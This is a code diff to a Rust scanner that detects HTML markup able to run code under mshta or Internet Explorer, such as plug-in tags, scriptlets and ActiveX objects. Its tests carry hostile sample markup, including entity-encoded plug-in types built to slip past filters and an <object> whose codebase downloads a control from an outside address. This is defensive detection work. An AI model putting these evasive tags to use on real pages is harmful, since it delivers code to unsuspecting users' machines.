@@ -25,55 +25,45 @@ pub const MAX_MARKUP_CANDIDATES: usize = 4096;
 
 /// What opens a candidate; each is confirmed by what surrounds it. `:script` is a script
 /// element with a namespace prefix (`<svg:script>`, `<x:script>`), which XHTML and SVG
-/// documents and Internet Explorer's engine (mshta's) run as `<script>`; the MIME types
-/// are an `<object>` of a scriptlet, which that engine loads and runs; `clsid:` names the
-/// class of an `<object>` (the scriptlet's class among [`ACTIVE_CLASS_IDS`]); the Java
-/// applet and Flash MIME types are an `<object>` or `<embed>` of the plug-ins those classes
-/// are ([`PLUGIN_TYPES`]).
-const NEEDLES: [&str; 13] = [
+/// documents and Internet Explorer's engine (mshta's) run as `<script>`. `<object`,
+/// `<embed` and `<applet` open the tags of plug-in content (a scriptlet, an ActiveX
+/// class, the Java or Flash plug-in): the whole tag is read with the tokenizer's rules,
+/// its values entity-decoded, and its attributes judged ([`active_attribute`]). Issue
+/// 10 (session 15): needles for the types themselves (`/x-shockwave-flash`) missed a
+/// type written with entities (`application&#47;x-…`) and could not grow (the start
+/// search holds 64 two-byte starts); the tag starts reach every way of writing them.
+const NEEDLES: [&str; 8] = [
     "<script",
     "<hta:application",
     "script:",
     "scriptlet:",
     ":script",
-    "/scriptlet",
-    "/x-scriptlet",
-    "clsid:",
-    "/x-java-applet",
-    "/x-shockwave-flash",
-    "/x-java-vm",
-    "/x-java-bean",
-    "/x-silverlight",
+    "<object",
+    "<embed",
+    "<applet",
 ];
 
-/// The MIME types (after `application`) by which an `<object type=…>` or `<embed
-/// type=…>` names a plug-in that runs the code it is given with no script of the page: the
-/// Java plug-in (an applet) and the Flash player (a movie), the classes of
+/// The tag names of [`NEEDLES`] whose whole tag is read and judged.
+const PLUGIN_TAGS: [&[u8]; 3] = [b"<object", b"<embed", b"<applet"];
+
+/// The MIME types by which an `<object type=…>` or `<embed type=…>` names a plug-in that
+/// runs the code it is given with no script of the page: the Java plug-in (an applet),
+/// the Flash player (a movie), Silverlight (the `.xap` it is given), the classes of
 /// [`ACTIVE_CLASS_IDS`] named by type instead of by class id (Internet Explorer's engine
-/// maps the type to the class). Issue 10 (session 13).
-/// The Java plug-in's other types and Silverlight's (which runs the `.xap` it is given)
-/// walked around it (review s14-r01). Each starts with `/x`, as the start search's
-/// packed searcher holds only so many two-byte starts (`application/java-vm` and
-/// `application/futuresplash` are left open for it).
-const PLUGIN_TYPES: [(&[u8], &str); 6] = [
-    (b"/x-java-applet", "the Java plug-in"),
-    (b"/x-shockwave-flash", "the Flash player"),
-    (b"/x-java-vm", "the Java plug-in"),
-    (b"/x-java-bean", "the Java plug-in"),
-    (b"/x-silverlight-2", "the Silverlight plug-in"),
-    (b"/x-silverlight", "the Silverlight plug-in"),
+/// maps the type to the class). Issue 10 (sessions 13 to 15). Compared with the value
+/// entity-decoded, in lower case, without its parameters (`;version=1.6`).
+const PLUGIN_TYPES: [(&[u8], &str); 10] = [
+    (b"application/x-java-applet", "the Java plug-in"),
+    (b"application/x-java-vm", "the Java plug-in"),
+    (b"application/java-vm", "the Java plug-in"),
+    (b"application/x-java-bean", "the Java plug-in"),
+    (b"application/x-shockwave-flash", "the Flash player"),
+    (b"application/futuresplash", "the Flash player"),
+    (b"application/x-silverlight-2", "the Silverlight plug-in"),
+    (b"application/x-silverlight", "the Silverlight plug-in"),
+    (b"text/x-scriptlet", "the DHTML scriptlet"),
+    (b"text/scriptlet", "the DHTML scriptlet"),
 ];
-
-/// Strips one quote from the end of `value` as Internet Explorer's engine (mshta's) reads
-/// quotes: `"`, `'`, and the backtick, which it takes for a quote too (HTML5 calls a
-/// backtick in an unquoted value a parse error because of it).
-fn strip_quote(value: &[u8]) -> &[u8] {
-    value
-        .strip_suffix(b"\"")
-        .or(value.strip_suffix(b"'"))
-        .or(value.strip_suffix(b"`"))
-        .unwrap_or(value)
-}
 
 /// A value with the backticks Internet Explorer's engine reads as quotes taken off.
 fn unquote_backticks(value: &[u8]) -> &[u8] {
@@ -104,9 +94,6 @@ const ACTIVE_CLASS_IDS: [(&[u8; 36], &str); 4] = [
 /// The versioned class ids of the Java plug-in (`CAFEEFAC-00VV-000U-00UU-ABCDEFFEDCBA`):
 /// each runs an applet.
 const JAVA_PLUGIN_CLASS_PREFIX: &[u8] = b"cafeefac-";
-
-/// How far back from a scriptlet MIME type the `<object` of its tag is looked for.
-const SCRIPTLET_TAG_BYTES: usize = 1024;
 
 /// Event handlers (any of them runs script: most on their own, the rest on a click or a
 /// key that an HTA's user gives it).
@@ -169,11 +156,11 @@ const URL_ATTRIBUTES: [&str; 9] = [
 
 /// Other attributes whose value can run script: inline CSS, a `<meta http-equiv=refresh>`
 /// target (Internet Explorer, which mshta is, follows a refresh to a `javascript:` URL),
-/// an `<object>`'s document (`data="data:text/html,…"`), an `<object>`'s class
-/// (`classid="clsid:…"` of [`ACTIVE_CLASS_IDS`], read with the tokenizer's rules: its
-/// value entity-encoded, after a quoted `>` or a long attribute; review s11-r10), an
-/// `<applet>`'s class (`code=…`: the Java plug-in runs it).
-const OTHER_ATTRIBUTES: [&str; 5] = ["style", "content", "data", "classid", "code"];
+/// an `<object>`'s document (`data="data:text/html,…"`), an `<applet>`'s class (`code=…`:
+/// the Java plug-in runs it). An `<object>`'s class (`classid="clsid:…"`) and type are
+/// judged from the tag start (`<object` of [`NEEDLES`]), the whole tag read with the
+/// tokenizer's rules.
+const OTHER_ATTRIBUTES: [&str; 4] = ["style", "content", "data", "code"];
 
 /// URL schemes that run script.
 /// `data:` URLs of documents run their script too, in a frame, object or embed of a web
@@ -424,19 +411,49 @@ pub fn find_markup(bytes: &[u8]) -> Option<Markup> {
                     detail: format!("{what}{encoding}"),
                 });
             }
+            // The start of a plug-in tag: the whole tag is read and its attributes judged.
+            let opens_tag = PLUGIN_TAGS.iter().any(|name| {
+                name.len() == found.len() / width
+                    && text
+                        .get(..name.len())
+                        .is_some_and(|head| head.eq_ignore_ascii_case(name))
+            }) && matches!(
+                text.get(found.len() / width),
+                Some(b'\t' | b'\n' | b'\x0c' | b'\r' | b' ' | b'/')
+            );
+            if opens_tag {
+                candidates += 1;
+                if candidates > MAX_MARKUP_CANDIDATES {
+                    return undecided.or(Some(too_many_candidates(at)));
+                }
+                let to = bytes.len().min(at + MAX_TAG_BYTES * width);
+                let window = narrow(&bytes[at..to], width);
+                match plugin_tag(&window, to < bytes.len()) {
+                    Verdict::Runs(what) => {
+                        return Some(Markup {
+                            offset: at,
+                            severity: Severity::Alert,
+                            detail: format!("{what}{encoding}"),
+                        });
+                    }
+                    Verdict::CannotTell(why) if undecided.is_none() => {
+                        undecided = Some(Markup {
+                            offset: at,
+                            severity: Severity::Warning,
+                            detail: format!("{why}{encoding}"),
+                        });
+                    }
+                    _ => {}
+                }
+                continue;
+            }
             // An attribute name: `=` after it, a separator before it, then its tag.
             if !is_attribute_candidate(bytes, at, found.end(), width) {
                 continue;
             }
             candidates += 1;
             if candidates > MAX_MARKUP_CANDIDATES {
-                return undecided.or(Some(Markup {
-                    offset: at,
-                    severity: Severity::Warning,
-                    detail: format!(
-                        "more than {MAX_MARKUP_CANDIDATES} attributes that could run script when rendered as HTML (MAX_MARKUP_CANDIDATES): the rest were not checked"
-                    ),
-                }));
+                return undecided.or(Some(too_many_candidates(at)));
             }
             let from = at.saturating_sub(MAX_TAG_BYTES * width);
             let to = bytes.len().min(at + MAX_TAG_BYTES * width);
@@ -461,6 +478,38 @@ pub fn find_markup(bytes: &[u8]) -> Option<Markup> {
         }
     }
     undecided
+}
+
+/// The warning for a file past [`MAX_MARKUP_CANDIDATES`].
+fn too_many_candidates(at: usize) -> Markup {
+    Markup {
+        offset: at,
+        severity: Severity::Warning,
+        detail: format!(
+            "more than {MAX_MARKUP_CANDIDATES} attributes or plug-in tags that could run script when rendered as HTML (MAX_MARKUP_CANDIDATES): the rest were not checked"
+        ),
+    }
+}
+
+/// The plug-in tag (`<object`, `<embed`, `<applet`, see [`PLUGIN_TAGS`]) that `text`
+/// starts with, read with the tokenizer's rules: does one of its attributes run code?
+/// `cut`: `text` ends [`MAX_TAG_BYTES`] after the tag's start, not at the file's end; a
+/// tag not closed by then is a warning (a tag the file ends inside is dropped by
+/// browsers: inert).
+fn plugin_tag(text: &[u8], cut: bool) -> Verdict {
+    let Some(tag) = read_tag(text, 0) else {
+        if !cut {
+            return Verdict::Inert;
+        }
+        return Verdict::CannotTell(format!(
+            "a plug-in tag (\"{}\") longer than {MAX_TAG_BYTES} bytes (MAX_TAG_BYTES): not read to its end",
+            excerpt(text)
+        ));
+    };
+    tag.attributes
+        .iter()
+        .find_map(|attribute| active_attribute(&tag, attribute))
+        .map_or(Verdict::Inert, Verdict::Runs)
 }
 
 /// Every `width`-th byte (the low bytes of UTF-16LE), so one grammar serves both.
@@ -541,50 +590,6 @@ fn confirm_needle(text: &[u8], before: &dyn Fn(usize) -> Vec<u8>) -> Option<Stri
         }
         return None;
     }
-    if lower.starts_with(b"/scriptlet") || lower.starts_with(b"/x-scriptlet") {
-        // `<object type="text/x-scriptlet" data=...>`: the value of the `type` attribute
-        // of an `<object>` tag still open (no `>` since its `<object`).
-        let end = lower
-            .iter()
-            .position(|&b| !(b.is_ascii_alphanumeric() || matches!(b, b'/' | b'-')))?;
-        let mime = &lower[..end];
-        if !(mime == b"/scriptlet" || mime == b"/x-scriptlet")
-            || !matches!(lower[end], b'"' | b'\'' | b'`' | b'>' | b'/')
-                && !lower[end].is_ascii_whitespace()
-        {
-            return None;
-        }
-        let back = before(SCRIPTLET_TAG_BYTES).to_ascii_lowercase();
-        let value = back.strip_suffix(b"text")?;
-        let value = strip_quote(value);
-        let value = value.trim_ascii_end().strip_suffix(b"=")?.trim_ascii_end();
-        let tag_start = value.strip_suffix(b"type")?;
-        if !tag_start
-            .last()
-            .is_some_and(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'`'))
-        {
-            return None;
-        }
-        let open = memchr::memmem::rfind(tag_start, b"<object")?;
-        if memchr::memchr(b'>', &tag_start[open..]).is_some()
-            || !tag_start
-                .get(open + 7)
-                .is_some_and(|b| b.is_ascii_whitespace() || *b == b'/')
-        {
-            return None;
-        }
-        return Some(format!(
-            "an <object> of type text{} (\"{}\"): Internet Explorer's engine, which mshta uses, loads and runs the scriptlet it names when the file is rendered as HTML",
-            escape_bytes(&text[..end]),
-            excerpt(&back[open..])
-        ));
-    }
-    if let Some((mime, class)) = PLUGIN_TYPES.iter().find(|(m, _)| lower.starts_with(m)) {
-        return plugin_type_tag(text, mime.len(), class, &before(SCRIPTLET_TAG_BYTES));
-    }
-    if let Some(rest) = lower.strip_prefix(b"clsid:") {
-        return active_class_object(text, rest, &before(SCRIPTLET_TAG_BYTES));
-    }
     if lower.starts_with(b"<hta:application") {
         return Some(
             "an <hta:application> tag: mshta runs this file as an HTML application".to_owned(),
@@ -609,89 +614,6 @@ fn confirm_needle(text: &[u8], before: &dyn Fn(usize) -> Vec<u8>) -> Option<Stri
         }
     }
     None
-}
-
-/// `clsid:` (at the start of `text`, `rest` after it in lower case) as the value of the
-/// `classid` attribute of an `<object>` tag still open in `back` (the bytes before it),
-/// naming one of [`ACTIVE_CLASS_IDS`]: an alert naming the class. The GUID may be written
-/// in braces and in any case, the attribute name in any case and spaced from its `=`,
-/// its value quoted or not, as the HTML tokenizer reads attributes.
-fn active_class_object(text: &[u8], rest: &[u8], back: &[u8]) -> Option<String> {
-    let class = active_class(rest)?;
-    let back = back.to_ascii_lowercase();
-    let value = strip_quote(&back);
-    let value = value.trim_ascii_end().strip_suffix(b"=")?.trim_ascii_end();
-    let tag_start = value.strip_suffix(b"classid")?;
-    if !tag_start
-        .last()
-        .is_some_and(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'`' | b'/'))
-    {
-        return None;
-    }
-    let open = memchr::memmem::rfind(tag_start, b"<object")?;
-    if memchr::memchr(b'>', &tag_start[open..]).is_some()
-        || !tag_start
-            .get(open + 7)
-            .is_some_and(|b| b.is_ascii_whitespace() || *b == b'/')
-    {
-        return None;
-    }
-    let tag = &back[open..];
-    let mut shown = tag[..tag.len().min(64)].to_vec();
-    if tag.len() > 64 {
-        shown.extend_from_slice(b"... ");
-    }
-    shown.extend_from_slice(&text[..text.len().min(6 + 38)]);
-    Some(format!(
-        "an <object> of {class} (\"{}\"): Internet Explorer's engine, which mshta uses, instantiates it and it runs code when the file is rendered as HTML",
-        escape_bytes(&shown)
-    ))
-}
-
-/// A plug-in MIME type of [`PLUGIN_TYPES`] (at the start of `text` after `application`,
-/// `mime_len` bytes long) as the value of the `type` attribute of an `<object>` or
-/// `<embed>` tag still open in `back`: an alert naming the plug-in. The value may be
-/// quoted with `"`, `'` or a backtick, or not, and carry parameters
-/// (`application/x-java-applet;version=1.6`).
-fn plugin_type_tag(text: &[u8], mime_len: usize, class: &str, back: &[u8]) -> Option<String> {
-    let after = text.get(mime_len).map_or(b'>', u8::to_ascii_lowercase);
-    if !(matches!(after, b'"' | b'\'' | b'`' | b'>' | b'/' | b';') || after.is_ascii_whitespace()) {
-        return None;
-    }
-    let back = back.to_ascii_lowercase();
-    let value = back.strip_suffix(b"application")?;
-    let value = strip_quote(value);
-    let value = value.trim_ascii_end().strip_suffix(b"=")?.trim_ascii_end();
-    let tag_start = value.strip_suffix(b"type")?;
-    if !tag_start
-        .last()
-        .is_some_and(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'`' | b'/'))
-    {
-        return None;
-    }
-    let open = [&b"<object"[..], b"<embed"]
-        .iter()
-        .filter_map(|name| {
-            let open = memchr::memmem::rfind(tag_start, name)?;
-            tag_start
-                .get(open + name.len())
-                .is_some_and(|b| b.is_ascii_whitespace() || *b == b'/')
-                .then_some(open)
-        })
-        .max()?;
-    if memchr::memchr(b'>', &tag_start[open..]).is_some() {
-        return None;
-    }
-    let tag = &back[open..];
-    let mut shown = tag[..tag.len().min(64)].to_vec();
-    if tag.len() > 64 {
-        shown.extend_from_slice(b"... ");
-    }
-    shown.extend_from_slice(&text[..text.len().min(mime_len)]);
-    Some(format!(
-        "plug-in content of {class} (\"{}\"): Internet Explorer's engine, which mshta uses, loads the plug-in for this type and it runs the code it is given when the file is rendered as HTML",
-        escape_bytes(&shown)
-    ))
 }
 
 /// The class of [`ACTIVE_CLASS_IDS`] (or a versioned Java plug-in) that the GUID at the
@@ -1033,9 +955,39 @@ fn active_attribute(whole: &Tag, attribute: &Attribute) -> Option<String> {
             ));
         }
     }
-    if tag == b"applet" && name == b"code" && !unquote_backticks(&url()).is_empty() {
-        // `<applet code=Evil.class archive=evil.jar>`: the Java plug-in (which mshta's
-        // engine hands the tag to) runs the applet's class.
+    if matches!(tag, b"object" | b"embed") && name == b"type" {
+        // `type="application&#47;x-shockwave-flash"`, `type=`application/java-vm``,
+        // `type='application/x-java-applet;version=1.6'`: the value as the engine reads it.
+        let value = url();
+        let value = unquote_backticks(&value);
+        let value = &value[..memchr::memchr(b';', value).unwrap_or(value.len())];
+        let plugin = PLUGIN_TYPES
+            .iter()
+            .find(|(mime, _)| value == *mime)
+            // A scriptlet is an `<object>`'s only.
+            .filter(|(mime, _)| tag == b"object" || !mime.starts_with(b"text/"));
+        if let Some((_, class)) = plugin {
+            return Some(format!(
+                "plug-in content of {class} ({}): Internet Explorer's engine, which mshta uses, loads the plug-in for this type and it runs the code it is given when the file is rendered as HTML",
+                shown()
+            ));
+        }
+    }
+    if tag == b"object" && name == b"codebase" && !unquote_backticks(&url()).is_empty() {
+        // `<object classid=… codebase="http://…/x.cab#version=…">`: Internet Explorer's
+        // engine downloads the control (or the applet's code) from it and runs it.
+        return Some(format!(
+            "an <object> with a code base ({}): Internet Explorer's engine, which mshta uses, downloads the control or code it names and runs it when the file is rendered as HTML",
+            shown()
+        ));
+    }
+    if tag == b"applet"
+        && matches!(name, b"code" | b"object")
+        && !unquote_backticks(&url()).is_empty()
+    {
+        // `<applet code=Evil.class archive=evil.jar>`, `<applet object=Evil.ser>` (a
+        // serialized applet): the Java plug-in (which mshta's engine hands the tag to)
+        // runs the applet's class.
         return Some(format!(
             "a Java applet ({}): the Java plug-in runs its class when the file is rendered as HTML (mshta, Internet Explorer)",
             shown()
@@ -1084,8 +1036,9 @@ fn is_refresh(tag: &Tag) -> bool {
 /// Character references as a browser decodes them in an attribute value: `&#106;`,
 /// `&#x6A;` (the `;` optional), and the named ones that spell a scheme's separators.
 fn decode_entities(value: &[u8]) -> Vec<u8> {
-    const NAMED: [(&[u8], u8); 7] = [
+    const NAMED: [(&[u8], u8); 8] = [
         (b"colon;", b':'),
+        (b"sol;", b'/'),
         (b"tab;", b'\t'),
         (b"newline;", b'\n'),
         (b"amp;", b'&'),
@@ -1273,21 +1226,59 @@ mod tests {
     /// and the packed start searcher is full (64 two-byte starts), so `object`, `type`
     /// and a `/j` or `/f` start cannot be added without reworking it.
     #[test]
-    #[ignore = "open, review s14-r01: applet object=, entity-encoded plug-in types, java-vm/futuresplash"]
     fn plugin_content_the_needles_cannot_reach() {
         for markup in [
             &b"<applet object=\"Evil.ser\" archive=\"evil.jar\" width=1></applet>"[..],
             b"<embed type=\"application&#47;x-shockwave-flash\" src=x>",
+            b"<embed type=\"application&#x2f;x-shockwave-flash\" src=x>",
+            b"<embed type=\"application&sol;x-shockwave-flash\">",
+            b"<object type=\"application&#47;x-java-applet\"><param name=code value=Evil></object>",
             b"<embed type=\"application/futuresplash\" src=x>",
             b"<object type=\"application/java-vm\"><param name=code value=Evil></object>",
+            b"<object codebase=\"http://203.0.113.7/x.cab#version=1,0\" width=1>",
+            b"<OBJECT\nTYPE=`APPLICATION/JAVA-VM`>",
+            b"<object title=\"a>b\" type=text&#x2F;x-scriptlet data=a.sct>",
         ] {
-            let found = find_markup(markup);
+            let shown = String::from_utf8_lossy(markup);
+            let bytes = [&b"\x00\x01\x02"[..], markup].concat();
+            let found = find_markup(&bytes);
             assert!(
                 found.is_some_and(|f| f.severity == Severity::Alert),
-                "{}",
-                String::from_utf8_lossy(markup)
+                "{shown}"
             );
+            let wide: Vec<u8> = bytes.iter().flat_map(|&b| [b, 0]).collect();
+            assert!(find_active_markup(&wide).is_some(), "UTF-16 {shown}");
         }
+        for text in [
+            &b"<object type=\"application/java-archive\" data=x.jar>"[..],
+            b"<embed type=\"text/x-scriptlet\">",
+            b"<objects type=application/java-vm>",
+            b"<object codebase=\"\">",
+            b"<applet object=\"\">",
+            b"<object type=\"application/java-vm\"",
+        ] {
+            assert_eq!(find_markup(text), None, "{}", String::from_utf8_lossy(text));
+        }
+    }
+
+    /// MAX_TAG_BYTES for a plug-in tag: one that closes within the limit is read and
+    /// judged; one still open there is a warning naming the limit.
+    #[test]
+    fn a_plugin_tag_past_its_limit_is_a_warning_and_at_it_is_read() {
+        let tag = |padding: usize| {
+            let mut bytes = b"<object title=\"".to_vec();
+            bytes.resize(padding, b'a');
+            bytes.extend_from_slice(b"\" type=application/futuresplash>");
+            bytes.extend_from_slice(&[b'x'; 16]);
+            bytes
+        };
+        let within = tag(MAX_TAG_BYTES - 64);
+        let found = find_markup(&within).expect("read");
+        assert_eq!(found.severity, Severity::Alert, "{found:?}");
+        let past = tag(MAX_TAG_BYTES + 64);
+        let found = find_markup(&past).expect("warned");
+        assert_eq!(found.severity, Severity::Warning, "{found:?}");
+        assert!(found.detail.contains("MAX_TAG_BYTES"), "{}", found.detail);
     }
 
     /// Session 11: an `<object>` naming the scriptlet's class by its id (what
